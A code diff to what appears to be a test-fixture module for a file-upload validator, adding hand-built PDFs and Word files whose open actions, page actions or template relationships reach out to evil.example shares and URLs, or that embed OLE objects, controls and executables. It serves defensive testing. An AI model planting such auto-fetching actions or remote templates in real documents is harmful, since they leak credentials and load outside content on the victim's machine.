@@ -81,6 +81,24 @@ def pdf_with_file() -> bytes:
     return _written(writer)
 
 
+def pdf_with(*, catalog: bytes = b"", page: bytes = b"", more: bytes = b"null") -> bytes:
+    """A PDF of one page by hand, with this in its catalog or its page; `more` is its object 4."""
+    return _pdf_of(
+        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] %s >>" % page,
+        more,
+    )
+
+
+def pdf_with_link() -> bytes:
+    document = FPDF()
+    document.add_page()
+    document.set_font("helvetica")
+    document.cell(text="my site", link="https://maria.example")
+    return bytes(document.output())
+
+
 def cut_pdf() -> bytes:
     whole = factories.pdf()
     return whole[: len(whole) * 2 // 3]
@@ -112,6 +130,17 @@ def docx_with(name: str, content: bytes = b"x") -> bytes:
     with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr(name, content)
     return file.getvalue()
+
+
+RELATION = (
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
+    'http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="%s"/></Relationships>'
+)
+
+
+def docx_related_to(kind: str, target: str, mode: str = "External") -> bytes:
+    """A Word file one of whose parts is related to something outside."""
+    return docx_with("word/_rels/settings.xml.rels", (RELATION % (kind, target, mode)).encode())
 
 
 def docx_whose_text_is(xml: bytes) -> bytes:
@@ -183,6 +212,27 @@ HOSTILE = {
     "PDF with a packed script": (pdf_with_packed_script, "carries a script"),
     "PDF that starts a program": (pdf_with_launch, "carries a script"),
     "PDF with a file inside": (pdf_with_file, "carries a script"),
+    **{
+        f"PDF that {deed} when it is opened": (lambda action=action: pdf_with(catalog=b"/OpenAction " + action), "reaches out")
+        for deed, action in {
+            "goes to a share": rb"<< /S /GoToR /F (\\\\evil.example\\s) /D [0 /Fit] >>",
+            "goes into a file on a share": rb"<< /S /GoToE /F (\\\\evil.example\\s) /D [0 /Fit] >>",
+            "asks for an address": b"<< /S /URI /URI (https://evil.example/seen) >>",
+            "sends a form": b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>",
+            "imports data": rb"<< /S /ImportData /F (\\\\evil\\x.fdf) >>",
+            "plays something": b"<< /S /Rendition /OP 0 >>",
+            "asks for an address later on": b"<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://evil.example) >>] >>",
+        }.items()
+    },
+    "PDF page that asks for an address": (
+        lambda: pdf_with(page=b"/AA << /O << /S /URI /URI (https://evil.example) >> >>"), "reaches out",
+    ),
+    "PDF whose deed is named elsewhere": (
+        lambda: pdf_with(catalog=b"/OpenAction << /S 4 0 R >>", more=b"/GoToR"), "reaches out",
+    ),
+    "PDF whose bytes lie elsewhere": (
+        lambda: pdf_with(more=b"<< /F (\\\\\\\\evil.example\\\\s) /Length 0 >>\nstream\n\nendstream"), "reaches out",
+    ),
     "PDF without pages": (pdf_without_pages, "at least one page"),
     "PDF of 61 pages": (lambda: pdf_of(61), "at most 60"),
     "PDF whose pages go round": (pdf_whose_pages_go_round, "PDF"),
@@ -209,6 +259,21 @@ HOSTILE = {
     "entities in UTF-16": (
         lambda: docx_whose_text_is('<!DOCTYPE x [<!ENTITY a "a">]><d>&a;</d>'.encode("utf-16")), "not built as Word",
     ),
+    "entities in a part in capitals": (
+        lambda: docx_with("word/x.XML", b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "not built as Word",
+    ),
+    "Word template elsewhere": (
+        lambda: docx_related_to("attachedTemplate", "https://evil.example/t.dotm"), "fetches something",
+    ),
+    "Word template on a share": (
+        lambda: docx_related_to("attachedTemplate", "file:///\\\\evil.example\\t.dotm"), "fetches something",
+    ),
+    "Word picture on a share": (lambda: docx_related_to("image", "file://///evil.example/x.png"), "fetches something"),
+    "Word frame in capitals": (lambda: docx_related_to("frame", "https://evil.example", "EXTERNAL"), "fetches something"),
+    "Word with an OLE object": (lambda: docx_with("word/embeddings/oleObject1.bin"), "carries another file"),
+    "Word with a control": (lambda: docx_with("word/activeX/activeX1.xml", b"<x/>"), "carries another file"),
+    "Word with a program": (lambda: docx_with("word/media/run.exe", b"MZ"), "carries another file"),
+    "Word with a file of no kind": (lambda: docx_with("word/media/run", b"MZ"), "carries another file"),
     "plain zip": (zip_of_texts, "not a Word document"),
     "OpenDocument": (open_document, "not a Word document"),
     "cut Word file": (cut_docx, "damaged"),
@@ -237,13 +302,16 @@ def _written(writer: PdfWriter) -> bytes:
 
 def _pdf_with_tree(tree: bytes) -> bytes:
     """A PDF by hand whose pages are this object."""
-    head = b"%PDF-1.4\n"
-    catalog = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
-    pages = b"2 0 obj\n" + tree + b"\nendobj\n"
-    starts = (len(head), len(head) + len(catalog))
-    table = b"xref\n0 3\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % start for start in starts)
-    tail = b"trailer\n<< /Size 3 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(head) + len(catalog) + len(pages))
-    return head + catalog + pages + table + tail
+    return _pdf_of(b"<< /Type /Catalog /Pages 2 0 R >>", tree)
+
+
+def _pdf_of(*objects: bytes) -> bytes:
+    data, table = b"%PDF-1.4\n", b"0000000000 65535 f \n"
+    for number, content in enumerate(objects, 1):
+        table += b"%010d 00000 n \n" % len(data)
+        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
+    tail = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(data))
+    return data + b"xref\n0 %d\n" % (len(objects) + 1) + table + tail
 
 
 def _zip(members: dict[str, bytes]) -> bytes:
